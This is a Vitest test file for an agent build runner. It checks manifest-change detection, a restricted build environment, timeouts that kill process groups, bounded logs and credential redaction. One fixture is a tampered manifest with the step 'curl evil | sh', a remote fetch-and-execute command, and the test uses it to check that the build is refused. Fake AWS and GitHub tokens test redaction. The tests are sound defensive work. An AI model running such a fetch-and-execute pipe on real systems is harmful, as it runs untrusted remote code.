import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type AgentSpaceDb, closeDb, getAuditEvents, openDb } from '@agentspace/db';
import { countEvents, queryEvents } from '@agentspace/events';
import {
	createFixtureAgentRepo,
	createTempHome,
	fixtureAgentManifest,
	type GitRepo,
	type TempHome,
} from '@agentspace/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { agentPaths } from '../agentPaths.js';
import { getAgent } from '../catalog/agentRecord.js';
import { discoverAgents } from '../discovery/discoverAgents.js';
import { installAgent } from '../install/installAgent.js';
import { MANIFEST_FILE } from '../manifest/parseManifest.js';
import { BoundedLog, MAX_LOG_LINE_BYTES } from './boundedLog.js';
import { type BuildOptions, buildAgent } from './buildAgent.js';
import { BUILD_ENV_PASSTHROUGH, buildEnvironment } from './buildEnvironment.js';
import { planBuild } from './planBuild.js';

const actor = { type: 'human', id: 'tester' } as const;
const HEAD_BYTES = 1024 * 1024;
const TAIL_BYTES = 256 * 1024;

let temp: TempHome;
let home: string;
let db: AgentSpaceDb;
const cleanups: (() => void)[] = [];

beforeEach(() => {
	temp = createTempHome('build');
	home = join(temp.home, 'home');
	db = openDb({ path: join(home, 'agentspace.db') });
});

afterEach(() => {
	closeDb(db);
	for (const cleanup of cleanups.splice(0)) cleanup();
	temp.cleanup();
});

/** Installs the fixture agent, its manifest fields overridden; returns its id and checkout. */
async function installFixture(manifest: Record<string, unknown> = {}) {
	const repo: GitRepo = createFixtureAgentRepo(manifest);
	cleanups.push(repo.cleanup);
	const result = await installAgent({ db, home, source: repo.url, actor });
	return { id: result.id, src: result.installPath, repo };
}

/** A build step running a Node script given as text. */
const nodeStep = (script: string) => ({ command: process.execPath, args: ['-e', script] });

const build = (id: string, options: Partial<BuildOptions> = {}) =>
	buildAgent({ db, home, id, actor, env: { PATH: process.env.PATH }, ...options });

const types = (id: string) => queryEvents(db, { stream_id: `agent:${id}` }).map((e) => e.type);

/** True when `pid` no longer runs (gone, or a zombie nobody has reaped yet). */
function processIsGone(pid: number): boolean {
	try {
		process.kill(pid, 0);
	} catch (error) {
		return (error as NodeJS.ErrnoException).code === 'ESRCH';
	}
	try {
		const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
		return stat.slice(stat.lastIndexOf(')') + 2).startsWith('Z');
	} catch {
		return true;
	}
}

/**
 * Whether `pid` is gone within a second: a SIGKILL is sent before the build
 * returns, but the kernel finishes the process a moment later.
 */
async function processGone(pid: number): Promise<boolean> {
	for (let waited = 0; waited < 1000; waited += 20) {
		if (processIsGone(pid)) return true;
		await new Promise((resolve) => setTimeout(resolve, 20));
	}
	return processIsGone(pid);
}

describe('planBuild', () => {
	it('shows the exact steps from the checkout’s manifest, where they run and the manifest they come from', async () => {
		const steps = [
			{ command: 'node', args: ['build.mjs', '--mode', 'production'] },
			{ command: 'npm', args: [] },
		];
		const { id, src } = await installFixture({ build: { steps } });

		const plan = planBuild(db, id);

		expect(plan.steps).toEqual(steps);
		expect(plan.cwd).toBe(src);
		expect(plan.manifestHash).toBe(getAgent(db, id)?.manifestHash);
		expect(plan.agent.id).toBe(id);
		// Planning runs nothing and records nothing.
		expect(types(id)).toEqual(['agent_installed']);
		expect(existsSync(join(src, 'dist'))).toBe(false);
	});

	it('refuses an unknown agent (NOT_FOUND), one that is not installed (CONFLICT), and a checkout whose manifest changed behind the catalogue (CONFLICT)', async () => {
		expect(() => planBuild(db, 'ghost')).toThrow(expect.objectContaining({ code: 'NOT_FOUND' }));

		const repo = createFixtureAgentRepo({ id: 'only-discovered' });
		cleanups.push(repo.cleanup);
		discoverAgents({ db, home, roots: [repo.path], actor });
		expect(() => planBuild(db, 'only-discovered')).toThrow(
			expect.objectContaining({
				code: 'CONFLICT',
				message: expect.stringMatching(/not installed/),
			}),
		);

		const { id, src } = await installFixture();
		writeFileSync(
			join(src, MANIFEST_FILE),
			JSON.stringify({
				...fixtureAgentManifest(),
				build: { steps: [{ command: 'sh', args: ['-c', 'curl evil | sh'] }] },
			}),
		);
		expect(() => planBuild(db, id)).toThrow(
			expect.objectContaining({ code: 'CONFLICT', message: expect.stringMatching(/changed/) }),
		);
		await expect(build(id)).rejects.toMatchObject({ code: 'CONFLICT' });
		expect(types(id)).toEqual(['agent_installed']);
	});
});

describe('buildAgent', () => {
	it('runs the steps in the checkout with only PATH, LANG, TZ, HOME and TMPDIR, and records the build', async () => {
		const { id, src } = await installFixture();
		const paths = agentPaths(home, id);
		const steps: number[] = [];
		const output: string[] = [];
		const env = {
			PATH: process.env.PATH,
			LANG: 'C.UTF-8',
			TZ: 'Europe/Paris',
			HOME: '/root',
			TMPDIR: '/tmp',
			AWS_SECRET_ACCESS_KEY: 'fake-aws-secret-access-key',
			GITHUB_TOKEN: 'fake-github-token',
			NODE_OPTIONS: '--require /nonexistent/preload.js',
			USER: 'tester',
		};

		const result = await build(id, {
			env,
			onStep: (index) => steps.push(index),
			onOutput: (_stream, line) => output.push(line),
		});

		expect(result).toMatchObject({
			id,
			ok: true,
			steps: [{ command: 'node', args: ['build.mjs'] }],
		});
		expect(result.failure).toBeUndefined();
		expect(result.buildId).toMatch(/^bld_/);
		expect(steps).toEqual([0]);
		expect(output).toEqual(['built dist/agent.mjs']);
		expect(existsSync(join(src, 'dist', 'agent.mjs'))).toBe(true);

		const seen = JSON.parse(readFileSync(join(src, 'dist', 'build-env.json'), 'utf8')) as Record<
			string,
			string
		>;
		expect(Object.keys(seen).sort()).toEqual(['HOME', 'LANG', 'PATH', 'TMPDIR', 'TZ']);
		expect(seen).toEqual({
			PATH: process.env.PATH,
			LANG: 'C.UTF-8',
			TZ: 'Europe/Paris',
			HOME: paths.home,
			TMPDIR: paths.tmp,
		});
		expect(paths.home.startsWith(join(home, 'agents', id))).toBe(true);
		expect(JSON.stringify(seen)).not.toContain('fake-aws-secret-access-key');
		expect(statSync(paths.home).mode & 0o777).toBe(0o700);

		expect(types(id)).toEqual(['agent_installed', 'agent_build_started', 'agent_built']);
		const built = queryEvents(db, { stream_id: `agent:${id}`, types: ['agent_built'] })[0];
		expect(built).toMatchObject({ build_id: result.buildId, log_path: paths.buildLog });
		expect(getAgent(db, id)).toMatchObject({
			status: 'built',
			buildStatus: 'built',
			buildError: null,
			builtAt: built?.timestamp,
		});

		const audit = await getAuditEvents(db, {
			type: ['agents.build_started', 'agents.built'],
			order: 'asc',
		});
		expect(audit.map((a) => a.eventType)).toEqual(['agents.build_started', 'agents.built']);
		expect(audit[0]).toMatchObject({
			severity: 'warning',
			subject: { type: 'agent', id },
			metadata: {
				codeExecution: true,
				buildId: result.buildId,
				commit: getAgent(db, id)?.installedCommit,
				cwd: src,
				steps: [['node', 'build.mjs']],
			},
		});
		expect(audit[1]?.metadata).toMatchObject({ codeExecution: true, buildId: result.buildId });
		expect(result.audit?.id).toBe(audit[1]?.id);

		expect(result.logPath).toBe(paths.buildLog);
		const log = readFileSync(paths.buildLog, 'utf8');
		expect(log).toMatch(/ step 1\/1: node build\.mjs\n/);
		expect(log).toMatch(/ stdout built dist\/agent\.mjs\n/);
		expect(statSync(paths.buildLog).mode & 0o777).toBe(0o600);
	});

	it('records a failing step: ok false, agent_build_failed, build_status failed, and no later step runs', async () => {
		const { id, src } = await installFixture({
			build: {
				steps: [
					nodeStep("console.log('compiling'); console.error('error: it broke'); process.exit(3)"),
					nodeStep("require('fs').writeFileSync('second-step-ran', '')"),
				],
			},
		});

		const result = await build(id);

		expect(result.ok).toBe(false);
		expect(result.failure).toEqual({
			stepIndex: 0,
			exitCode: 3,
			signal: null,
			error: 'step 1 exited with code 3',
		});
		expect(existsSync(join(src, 'second-step-ran'))).toBe(false);
		expect(types(id)).toEqual(['agent_installed', 'agent_build_started', 'agent_build_failed']);
		const [failed] = queryEvents(db, { stream_id: `agent:${id}`, types: ['agent_build_failed'] });
		expect(failed).toMatchObject({
			build_id: result.buildId,
			step_index: 0,
			exit_code: 3,
			signal: null,
			error: 'step 1 exited with code 3',
		});
		expect(getAgent(db, id)).toMatchObject({
			status: 'build_failed',
			buildStatus: 'failed',
			buildError: 'step 1 exited with code 3',
			builtAt: null,
		});
		const [audit] = await getAuditEvents(db, { type: 'agents.build_failed' });
		expect(audit).toMatchObject({
			severity: 'warning',
			metadata: { codeExecution: true, stepIndex: 0, error: 'step 1 exited with code 3' },
		});
		const log = readFileSync(result.logPath ?? '', 'utf8');
		expect(log).toMatch(/ stdout compiling\n/);
		expect(log).toMatch(/ stderr error: it broke\n/);
		expect(log).toMatch(/ error step 1 exited with code 3\n/);
	});

	it('kills the whole process group when a step times out, grandchildren included', async () => {
		const { id, src } = await installFixture({
			build: {
				steps: [
					nodeStep(`
						const { spawn } = require('node:child_process');
						// The grandchild shrugs off SIGTERM and holds the step's output open.
						const child = spawn(process.execPath, ['-e', "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000)"], { stdio: 'inherit' });
						require('node:fs').writeFileSync('grandchild.pid', String(child.pid));
						console.log('waiting for ever');
						setInterval(() => {}, 1000);
					`),
				],
			},
		});
		const started = Date.now();

		const result = await build(id, { stepTimeoutMs: 800 });

		const grandchild = Number(readFileSync(join(src, 'grandchild.pid'), 'utf8'));
		expect(grandchild).toBeGreaterThan(0);
		expect(await processGone(grandchild)).toBe(true);
		expect(result.ok).toBe(false);
		expect(result.failure).toMatchObject({
			stepIndex: 0,
			error: expect.stringMatching(/^step 1 timed out after 1 s and was killed$/),
		});
		// SIGTERM, then SIGKILL after the grace period: well under a minute, not "for ever".
		expect(Date.now() - started).toBeLessThan(10_000);
		expect(getAgent(db, id)?.buildStatus).toBe('failed');
		expect(readFileSync(result.logPath ?? '', 'utf8')).toMatch(/timed out/);
	});

	it('kills what a successful step left running in the background', async () => {
		const { id, src } = await installFixture({
			build: {
				steps: [
					nodeStep(`
						const { spawn } = require('node:child_process');
						const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' });
						child.unref();
						require('node:fs').writeFileSync('background.pid', String(child.pid));
					`),
				],
			},
		});

		const result = await build(id);

		expect(result.ok).toBe(true);
		const background = Number(readFileSync(join(src, 'background.pid'), 'utf8'));
		expect(await processGone(background)).toBe(true);
	});

	it('fails a step that times out even when it exits 0 on SIGTERM', async () => {
		const { id } = await installFixture({
			build: {
				steps: [
					nodeStep("process.on('SIGTERM', () => process.exit(0)); setInterval(() => {}, 1000)"),
				],
			},
		});

		const result = await build(id, { stepTimeoutMs: 500 });

		expect(result.ok).toBe(false);
		expect(result.failure?.error).toMatch(/timed out/);
		expect(types(id)).toContain('agent_build_failed');
	});

	it('does not wait for ever on a process that left the step’s group and holds its output open', async () => {
		const { id, src } = await installFixture({
			build: {
				steps: [
					nodeStep(`
						const { spawn } = require('node:child_process');
						// detached: a new session, out of the step's process group, sharing its stdout.
						const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)'], { stdio: 'inherit', detached: true });
						require('node:fs').writeFileSync('escaped.pid', String(child.pid));
						child.unref();
					`),
				],
			},
		});
		const started = Date.now();

		const result = await build(id);

		expect(Date.now() - started).toBeLessThan(15_000);
		expect(result.ok).toBe(true);
		expect(readFileSync(result.logPath ?? '', 'utf8')).toMatch(/still holds its output open/);
		process.kill(Number(readFileSync(join(src, 'escaped.pid'), 'utf8')), 'SIGKILL');
	});

	it('stops the running step and records the build as interrupted when aborted', async () => {
		const { id, src } = await installFixture({
			build: {
				steps: [
					nodeStep(
						"require('node:fs').writeFileSync('started', ''); setTimeout(() => require('node:fs').writeFileSync('finished', ''), 3000)",
					),
				],
			},
		});
		const controller = new AbortController();
		const watcher = setInterval(() => {
			if (existsSync(join(src, 'started'))) controller.abort();
		}, 20);

		const result = await build(id, { signal: controller.signal }).finally(() =>
			clearInterval(watcher),
		);

		expect(result.ok).toBe(false);
		expect(result.failure?.error).toBe('step 1 was interrupted');
		expect(types(id)).toContain('agent_build_failed');
		await new Promise((resolve) => setTimeout(resolve, 3500));
		expect(existsSync(join(src, 'finished'))).toBe(false);
	});

	it('fails clearly when a step’s command does not exist', async () => {
		const { id } = await installFixture({
			build: { steps: [{ command: 'agentspace-no-such-command', args: ['x'] }] },
		});

		const result = await build(id);

		expect(result.ok).toBe(false);
		expect(result.failure).toMatchObject({ stepIndex: 0, exitCode: null, signal: null });
		expect(result.failure?.error).toMatch(/^command not found: agentspace-no-such-command/);
		expect(getAgent(db, id)?.buildError).toMatch(/command not found/);
		expect(types(id)).toContain('agent_build_failed');
	});

	it('bounds the log (head + tail + a marker) whatever the output', async () => {
		const { id } = await installFixture({
			build: {
				steps: [
					nodeStep(`
						const pad = '.'.repeat(60);
						let out = '';
						for (let i = 0; i < 40000; i++) out += 'line ' + i + ' ' + pad + '\\n';
						process.stdout.write(out);
						process.stdout.write('x'.repeat(100000) + '\\n');
						console.log('the very end');
					`),
				],
			},
		});

		const result = await build(id);

		expect(result.ok).toBe(true);
		const size = statSync(result.logPath ?? '').size;
		const log = readFileSync(result.logPath ?? '', 'utf8');
		const marker =
			/\n\[… (\d+) lines \((\d+) bytes\) left out: the log keeps its first 1048576 and last 262144 bytes …\]\n/.exec(
				log,
			);
		expect(marker).not.toBeNull();
		expect(size).toBeLessThanOrEqual(HEAD_BYTES + TAIL_BYTES + (marker?.[0].length ?? 0));
		expect(size).toBeGreaterThan(HEAD_BYTES);
		// The head and the tail are both there.
		expect(log).toContain(' stdout line 0 ');
		expect(log).toContain(' stdout line 39999 ');
		expect(log.trimEnd().endsWith(' stdout the very end')).toBe(true);
		// A 100 KB line is cut at 8 KB, and marked.
		const long = log.split('\n').find((line) => line.includes('xxxxxxxx')) ?? '';
		expect(long).toMatch(/ \[…line cut at 8 KB\]$/);
		expect(Buffer.byteLength(long)).toBeLessThan(MAX_LOG_LINE_BYTES + 100);
	});

	it('redacts credentials from the log and from onOutput', async () => {
		// The tokens are put together at run time, so the step's own argv (logged as
		// its first line) does not hold them: only the output can bring them in.
		const { id } = await installFixture({
			build: {
				steps: [
					nodeStep(`
						console.log('using token ' + 'gh' + 'p_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8');
						console.error('aws key ' + 'AK' + 'IA' + 'IOSFODNN7EXAMPLE' + ' and done');
						console.log('password=' + 'hunter2' + 'hunter2');
					`),
				],
			},
		});
		const github = 'ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
		const aws = 'AKIAIOSFODNN7EXAMPLE';
		const output: string[] = [];

		const result = await build(id, { onOutput: (_stream, line) => output.push(line) });

		expect(result.ok).toBe(true);
		const log = readFileSync(result.logPath ?? '', 'utf8');
		for (const secret of [github, aws, 'hunter2hunter2']) {
			expect(log).not.toContain(secret);
			expect(output.join('\n')).not.toContain(secret);
		}
		expect(log).toContain('stdout using token [REDACTED]');
		expect(log).toContain('stderr aws key [REDACTED] and done');
		expect(output).toContain('using token [REDACTED]');
	});

	it('refuses to build when the manifest is not the one whose steps were shown (expectedManifestHash)', async () => {
		const { id, repo } = await installFixture();
		const plan = planBuild(db, id);

		await expect(build(id, { expectedManifestHash: 'f'.repeat(64) })).rejects.toMatchObject({
			code: 'CONFLICT',
			message: expect.stringMatching(/changed after its build steps were shown/),
		});

		// The realistic case: an upgrade lands between showing the plan and confirming it.
		repo.commit({
			[MANIFEST_FILE]: {
				...fixtureAgentManifest(),
				build: { steps: [{ command: 'sh', args: ['-c', 'echo other steps'] }] },
			},
		});
		await installAgent({ db, home, source: repo.url, actor });
		await expect(build(id, { expectedManifestHash: plan.manifestHash })).rejects.toMatchObject({
			code: 'CONFLICT',
		});

		expect(types(id)).toEqual(['agent_installed', 'agent_installed']);
		expect(await getAuditEvents(db, { type: 'agents.build_started' })).toEqual([]);
		expect(existsSync(agentPaths(home, id).buildLog)).toBe(false);

		// The hash of the plan shown for the current manifest is accepted.
		const current = planBuild(db, id);
		await expect(build(id, { expectedManifestHash: current.manifestHash })).resolves.toMatchObject({
			ok: true,
		});
	});

	it('records nothing for a manifest without build steps', async () => {
		const { id } = await installFixture({ build: undefined });
		const events = countEvents(db, undefined);
		const audits = (await getAuditEvents(db)).length;

		const result = await build(id);

		expect(result).toEqual({
			id,
			buildId: null,
			ok: true,
			steps: [],
			durationMs: 0,
			logPath: null,
			audit: null,
		});
		expect(countEvents(db, undefined)).toBe(events);
		expect(await getAuditEvents(db)).toHaveLength(audits);
		expect(getAgent(db, id)?.buildStatus).toBe('none');
		expect(existsSync(agentPaths(home, id).logs)).toBe(false);
	});

	it('builds again after a failure and after a re-install resets the build', async () => {
		const { id, repo } = await installFixture({
			build: { steps: [nodeStep("process.exit(require('fs').existsSync('fixed') ? 0 : 1)")] },
		});
		expect((await build(id)).ok).toBe(false);

		repo.commit({ fixed: 'yes' });
		await installAgent({ db, home, source: repo.url, actor });
		expect(getAgent(db, id)).toMatchObject({ buildStatus: 'none', buildError: null });
		expect((await build(id)).ok).toBe(true);
		expect(getAgent(db, id)).toMatchObject({ status: 'built', buildStatus: 'built' });
	});
});

describe('buildEnvironment', () => {
	it('passes only PATH, LANG and TZ through, and gives HOME and TMPDIR of the agent’s own', () => {
		const paths = agentPaths(home, 'env-test');
		const env = buildEnvironment(
			{ PATH: '/bin', LANG: 'C', TZ: 'UTC', LC_ALL: 'C', SSH_AUTH_SOCK: '/tmp/agent.sock' },
			paths,
		);
		expect(env).toEqual({
			PATH: '/bin',
			LANG: 'C',
			TZ: 'UTC',
			HOME: paths.home,
			TMPDIR: paths.tmp,
		});
		expect(BUILD_ENV_PASSTHROUGH).toEqual(['PATH', 'LANG', 'TZ']);
		expect(existsSync(paths.home) && existsSync(paths.tmp)).toBe(true);

		// Without a PATH the step still finds the usual tools.
		expect(buildEnvironment({}, paths)).toEqual({
			PATH: '/usr/local/bin:/usr/bin:/bin',
			HOME: paths.home,
			TMPDIR: paths.tmp,
		});
	});
});

describe('BoundedLog', () => {
	it('keeps the first headBytes and the last tailBytes, with a marker between', () => {
		const path = join(home, 'logs', 'unit.log');
		const log = new BoundedLog(path, { headBytes: 200, tailBytes: 200 });
		for (let i = 0; i < 100; i++) log.line('out', `line ${i}`);
		log.close();

		const text = readFileSync(path, 'utf8');
		const lines = text.trimEnd().split('\n');
		expect(lines[0]).toMatch(/ out line 0$/);
		expect(lines.at(-1)).toMatch(/ out line 99$/);
		expect(text).toMatch(/\[… \d+ lines \(\d+ bytes\) left out/);
		const marker = lines.find((l) => l.startsWith('[…')) ?? '';
		expect(Buffer.byteLength(text)).toBeLessThanOrEqual(200 + 200 + Buffer.byteLength(marker) + 1);
		expect(text).not.toMatch(/ out line 50\n/);
	});

	it('keeps lines in order once the head is full, even a short line that would still fit in it', () => {
		const path = join(home, 'logs', 'order.log');
		// Each entry is a 24-character time, a space, 'out', a space, the text and a newline.
		const entry = (text: string) => 24 + 1 + 3 + 1 + text.length + 1;
		const long = 'l'.repeat(60);
		const log = new BoundedLog(path, { headBytes: entry(long) + 40, tailBytes: 10_000 });
		log.line('out', long); // fills the head but for 40 bytes
		log.line('out', `${long}-2`); // does not fit: the head is full from here on
		log.line('out', 'end'); // 33 bytes: would fit in the head's gap, must not jump ahead
		log.close();

		const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
		expect(lines).toHaveLength(3);
		expect(lines[0]).toMatch(/ out l+$/);
		expect(lines[1]).toMatch(/ out l+-2$/);
		expect(lines[2]).toMatch(/ out end$/);
	});

	it('writes everything, unmarked, when the output fits; redacts given secret values', () => {
		mkdirSync(join(home, 'logs'), { recursive: true });
		const path = join(home, 'logs', 'small.log');
		const log = new BoundedLog(path, {}, ['s3cr3t-value']);
		expect(log.line('out', 'the value is s3cr3t-value')).toBe('the value is [REDACTED]');
		log.line('err', 'second');
		log.close();

		const text = readFileSync(path, 'utf8');
		expect(text.trimEnd().split('\n')).toHaveLength(2);
		expect(text).not.toContain('s3cr3t-value');
		expect(text).not.toContain('left out');
	});
});
